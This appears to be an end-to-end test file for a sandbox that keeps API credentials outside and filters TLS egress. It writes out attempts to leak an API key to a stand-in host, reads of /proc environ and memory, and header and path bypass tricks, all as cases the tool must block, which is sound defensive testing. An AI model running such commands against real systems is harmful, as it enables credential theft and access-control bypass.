// Credentials that stay outside, and looking into TLS: real clients, and what a hostile program inside tries. The servers
// outside write down what reaches them.
#include <algorithm>
#include <cstdlib>

#include <catch2/catch_test_macros.hpp>
#include <catch2/generators/catch_generators.hpp>

#include "tests/e2e/egress_world.h"

using namespace treadline::test;

namespace {

const std::string real = "sk-Real7-aB3dE5fG7hJ9kL2mN4pQ";
const std::vector<std::string> hosts = {"web.test:%https", "web.test:%http", "other.test:%https", "127.0.0.1:%http", "127.0.0.1:%https"};
const std::string bearer = "  credentials:\n    - {host: \"web.test:%https\", header: Authorization, value: \"Bearer ${env:API_KEY}\"}\n";

// A world whose servers this machine trusts, with a key in the environment of whoever starts the runs.
struct Trusting : EgressWorld {
    explicit Trusting(const std::string& more) {
        more_network = more;
        ::setenv("SSL_CERT_FILE", filled("%ca").c_str(), 1);
        ::unsetenv("SSL_CERT_DIR");
        ::setenv("API_KEY", real.c_str(), 1);
    }
};

// Nothing of a run that a person or a program may keep holds the real value.
void check_unseen(const Trusting& world, const Gated& gated) {
    CHECK_FALSE(contains(gated.out, real));
    CHECK_FALSE(contains(gated.err, real));
    CHECK_FALSE(contains(gated.violations.dump(), real));
    const Finished kept = run({"grep", "-rlF", real, world.loop.home(), world.loop.project()});
    INFO(kept.out);
    CHECK(kept.status == 1);
}

} // namespace

TEST_CASE("the real value is put in outside, and nothing inside ever holds it", "[e2e][credentials]") {
    const Trusting world(bearer);
    const Gated gated = world.run(hosts, "curl -sS -H \"Authorization: Bearer $API_KEY\" https://web.test:%https/ && "
                                       "env; cat /proc/*/environ /proc/*/cmdline /proc/self/mem 2> /dev/null | tr '\\0' '\\n'; ls /run; "
                                       "cat /etc/ssl/certs/ca-certificates.crt | tail -n 20; grep -c . /proc/self/mountinfo");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out.starts_with("hello\n"));
    CHECK(contains(gated.out, "API_KEY=sk-"));
    CHECK(gated.egress() == 0);
    check_unseen(world, gated);
    CHECK(contains(world.observed(), "authorization Bearer " + real));
}

TEST_CASE("curl, python, requests, node, git, Java and Go trust the run's authority without being told", "[e2e][credentials]") {
    const Trusting world("  inspect: [\"web.test:%https\"]\n");
    const Finished made = world.outside("git init -q --bare %www/repo.git && git init -q seed && cd seed && git config user.email t@t.test && "
                                        "git config user.name t && echo file > file && git add . && git commit -qm one && "
                                        "git push -q %www/repo.git HEAD:refs/heads/main && git -C %www/repo.git symbolic-ref HEAD refs/heads/main && "
                                        "git -C %www/repo.git update-server-info && rm -rf ../seed");
    REQUIRE(made.status == 0);
    const Gated gated = world.run(hosts, "U=https://web.test:%https; curl -sS $U/ && "
                                       "python3 -c 'import urllib.request as r, sys; print(r.urlopen(sys.argv[1]).read())' $U/ && "
                                       "python3 -c 'import requests, sys; print(requests.get(sys.argv[1]).text.strip())' $U/ && "
                                       "node -e 'fetch(process.argv[1]).then(r => r.text()).then(t => console.log(\"node\", t.trim()))' $U/ && "
                                       "git clone -q $U/repo.git /tmp/clone && cat /tmp/clone/file");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out == "hello\nb'hello\\n'\nhello\nnode hello\nfile\n");
    CHECK(gated.egress() == 0);
    // Built outside; inside they only run.
    world.loop.write("Get.java", "import java.net.*; import java.net.http.*;\npublic class Get { public static void main(String[] a) throws Exception {\n"
                                 "System.out.print(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), "
                                 "HttpResponse.BodyHandlers.ofString()).body()); } }\n");
    world.loop.write("get.go", "package main\nimport (\"io\"; \"net/http\"; \"os\")\nfunc main() { r, err := http.Get(os.Args[1]); if err != nil { panic(err) }\n"
                               "io.Copy(os.Stdout, r.Body) }\n");
    const Finished built = world.outside("javac Get.java && GOFLAGS=-mod=mod GOCACHE=$HOME/gocache go build -o get get.go");
    INFO(built.err);
    REQUIRE(built.status == 0);
    const Gated others = world.run(hosts, "java -Xshare:off Get https://web.test:%https/; ./get https://web.test:%https/");
    INFO(others.err);
    INFO(others.violations.dump(1));
    CHECK(others.out == "hello\nhello\n");
}

TEST_CASE("a placeholder that heads anywhere but into its header is no secret, and is not sent", "[e2e][credentials]") {
    const Trusting world(bearer + "  inspect: [\"other.test:%https\"]\n");
    struct Attack {
        const char* what;
        const char* script; // curl's words
    };
    const Attack attack = GENERATE(
        Attack{"over plain HTTP", "-H \"Authorization: Bearer $API_KEY\" http://web.test:%http/"},
        Attack{"to another host", "-H \"Authorization: Bearer $API_KEY\" https://other.test:%https/"},
        Attack{"in another header", "-H \"X-Key: $API_KEY\" https://web.test:%https/"},
        Attack{"in another form", "-H \"Authorization: token $API_KEY\" https://web.test:%https/"},
        Attack{"in a header's name", "-H \"X$API_KEY: 1\" https://web.test:%https/"},
        Attack{"in the address", "\"https://web.test:%https/?key=$API_KEY\""},
        Attack{"in the body", "-d \"key=$API_KEY\" https://web.test:%https/"},
        Attack{"in a chunked body", "-H 'Transfer-Encoding: chunked' -d \"key=$API_KEY\" https://web.test:%https/"},
        Attack{"in the body beside the right header", "-H \"Authorization: Bearer $API_KEY\" -d \"key=$API_KEY\" https://web.test:%https/"},
        Attack{"as a password", "-u \"user:$API_KEY\" https://web.test:%https/"},
        Attack{"after a redirect", "-L --location-trusted -H \"Authorization: Bearer $API_KEY\" "
                                   "'https://web.test:%https/redirect?https://other.test:%https/index.html'"},
        Attack{"by TRACE", "-X TRACE -H \"Authorization: Bearer $API_KEY\" https://web.test:%https/"});
    CAPTURE(attack.what);
    const Gated gated = world.run(hosts, "curl -sS -m 20 -o answer -w '%{http_code}\\n' " + std::string(attack.script) + "; grep -o 'denied by treadline' answer");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out == "403\ndenied by treadline\n");
    CHECK(gated.egress() == 1);
    check_unseen(world, gated);
    for (const std::string& line : world.observed()) {
        CHECK_FALSE(contains(line, "X-Key"));
        CHECK_FALSE(contains(line, "/?key"));
        CHECK_FALSE(contains(line, "http GET other.test"));
        CHECK_FALSE(contains(line, "TRACE"));
    }
}

TEST_CASE("an answer that sends the real value back does not come in", "[e2e][credentials]") {
    const Trusting world(bearer);
    REQUIRE(contains(world.outside("curl -sS --cacert %ca --resolve web.test:%https:127.0.0.1 -H \"Authorization: Bearer $API_KEY\" https://web.test:%https/echo").out,
                     real)); // it does where nothing is in between
    const std::string form = GENERATE(as<std::string>(), "", "?header", "?bytes", "?close", "?base64", "?gzip");
    CAPTURE(form);
    const Gated gated = world.run(hosts, "curl -sS -m 20 -H \"Authorization: Bearer $API_KEY\" 'https://web.test:%https/echo" + form +
                                           "' > got; cat got; base64 -d got 2> /dev/null; gzip -dc got 2> /dev/null; true");
    INFO(gated.out);
    CHECK(gated.egress() == 1);
    check_unseen(world, gated);
    CHECK_FALSE(contains(gated.out, real.substr(0, real.size() - 1)));
    // The same without the header: an echo that holds nothing real.
    const Gated plain = world.run(hosts, "curl -sS -m 20 -H 'X-Plain: something' 'https://web.test:%https/echo'");
    CHECK(contains(plain.out, "X-Plain: something"));
    CHECK(contains(plain.out, "Accept-Encoding: identity"));
    CHECK(plain.egress() == 0);
}

TEST_CASE("nothing is sent to a server that cannot show who it is", "[e2e][credentials]") {
    const Trusting world(bearer);
    ::setenv("SSL_CERT_FILE", "/etc/ssl/certs/ca-certificates.crt", 1); // which does not vouch for the test's server
    const Gated gated = world.run(hosts, "curl -sS -m 20 -o answer -w '%{http_code}\\n' -H \"Authorization: Bearer $API_KEY\" https://web.test:%https/; cat answer");
    INFO(gated.out);
    CHECK(gated.out.starts_with("403\n"));
    REQUIRE(gated.egress() == 1);
    CHECK(contains(gated.violations.dump(), "not trusted"));
    check_unseen(world, gated);
    CHECK_FALSE(contains(world.observed(), "authorization"));
}

TEST_CASE("inside TLS each request is held to its host, and to the methods and paths of the rule", "[e2e][credentials]") {
    const Trusting world("  inspect:\n    - {host: \"web.test:%https\", methods: [GET], paths: [\"/\", \"/ok/**\"]}\n");
    const std::string code = "curl -sS --path-as-is -m 20 -o /dev/null -w '%{http_code} ' ";
    const Gated gated = world.run(hosts, "U=https://web.test:%https; " + code + "$U/; " + code + "$U/ok/x; " + code + "-d x $U/; " + code + "$U/secret; " + code +
                                           "$U/ok/../secret; " + code + "-H 'Host: other.test' $U/; " + code + "--request-target https://other.test/ $U/; " + code +
                                           "-H 'X-HTTP-Method-Override: DELETE' $U/; " + code + "-H 'X-Original-URL: /secret' $U/; " + code +
                                           "-H 'Connection: Host' $U/");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out == "200 404 403 403 403 403 403 403 403 403 ");
    const auto about = gated.about(world.filled("web.test:%https"));
    REQUIRE(about.size() == 1); // one host, told once
    CHECK(about[0].at("count") == 8);
    const auto seen = world.observed();
    CHECK(contains(seen, "/ok/x"));
    CHECK_FALSE(contains(seen, "secret"));
    CHECK_FALSE(contains(seen, "POST"));
    CHECK_FALSE(contains(seen, "other.test /"));
}

TEST_CASE("what is looked into speaks TLS with HTTP inside, and nothing else", "[e2e][credentials]") {
    const Trusting world("  inspect: [\"web.test:%https\"]\n");
    const Gated gated = world.run({"web.test:%https/tcp", "127.0.0.1:%https"},
                                  "printf 'hello there\\r\\n\\r\\n' | timeout 10 openssl s_client -quiet -connect web.test:%https -servername web.test 2> /dev/null | head -c 12; "
                                  "echo; python3 -c 'import socket\ns = socket.create_connection((\"web.test\", %https)); s.sendall(b\"\\0\\1\\2 nothing known\"); "
                                  "print(s.recv(10))' 2>&1 | tail -n 1");
    INFO(gated.out);
    CHECK(contains(gated.out, "HTTP/1.1 403"));
    CHECK_FALSE(contains(gated.out, "hello"));
    CHECK(gated.egress() == 2);
    CHECK_FALSE(contains(world.observed(), "http "));
}

TEST_CASE("bodies of any size pass both ways, and many requests on one connection", "[e2e][credentials]") {
    const Trusting world(bearer);
    const Finished made = world.outside("head -c 3000000 /dev/urandom > big && cp big %www/big");
    REQUIRE(made.status == 0);
    const Gated gated = world.run(hosts, "U=https://web.test:%https; A=\"Authorization: Bearer $API_KEY\"; curl -sS -H \"$A\" $U/ $U/ $U/ && "
                                       "curl -sS -H \"$A\" --data-binary @big $U/ && curl -sS -H \"$A\" -H 'Transfer-Encoding: chunked' --data-binary @big $U/ && "
                                       "curl -sS -H \"$A\" $U/big | cmp - big && curl -sS -H \"$A\" -r 5-9 $U/big | cmp - big && curl -sS $U/slow; echo; "
                                       "curl -sSI -H \"$A\" $U/index.html | head -n 1; curl -sS -H 'Expect: 100-continue' -d x $U/");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out == "hello\nhello\nhello\ngot 3000000\ngot 3000000\none two\nHTTP/1.1 200 OK\r\ngot 1\n");
    CHECK(gated.egress() == 0);
}

TEST_CASE("a run whose credential is missing, or would be seen inside, is refused with what to do", "[e2e][credentials]") {
    const Trusting world(bearer);
    const auto refused = [&](const std::string& words) {
        const Finished done = world.loop.treadline({"enforce", "--", "sh", "-c", words});
        CHECK(done.status == 126);
        CHECK_FALSE(contains(done.err, real));
        return done.err;
    };
    (void)world.run(hosts, "true"); // writes the profile
    CHECK(contains(refused("echo " + real), "the command's own words hold the value of ${env:API_KEY}"));
    ::unsetenv("API_KEY");
    CHECK(contains(refused("true"), "${env:API_KEY} is not set"));
    ::setenv("API_KEY", real.c_str(), 1);
    CHECK(world.loop.treadline({"enforce", "--", "true"}).status == 0);
    const Finished host = world.loop.treadline({"enforce", "--network", "host", "--", "true"});
    CHECK(host.status == 126);
    CHECK(contains(host.err, "credentials"));
}

TEST_CASE("a file that a credential refers to holds a placeholder inside", "[e2e][credentials]") {
    const Trusting world("  credentials:\n    - {host: \"web.test:%https\", header: Authorization, value: \"Bearer ${file:${project}/token}\"}\n"
                         "    - {host: \"web.test:%https\", header: X-Key, value: \"${command:printf command-%s value}\", variable: KEY}\n");
    world.loop.write("token", real + "\n");
    const Gated gated = world.run(hosts, "curl -sS -H \"Authorization: Bearer $(cat token)\" -H \"X-Key: $KEY\" https://web.test:%https/; cat token; "
                                       "echo changed > token; mv token other; rm -f token; ln token third; cat third; echo $KEY");
    INFO(gated.err);
    INFO(gated.violations.dump(1));
    CHECK(gated.out.starts_with("hello\nsk-"));
    CHECK_FALSE(contains(gated.out, real));
    CHECK_FALSE(contains(gated.out, "command-value"));
    CHECK(contains(world.observed(), "authorization Bearer " + real));
    CHECK(slurp(world.loop.project() + "/token") == real + "\n");
}
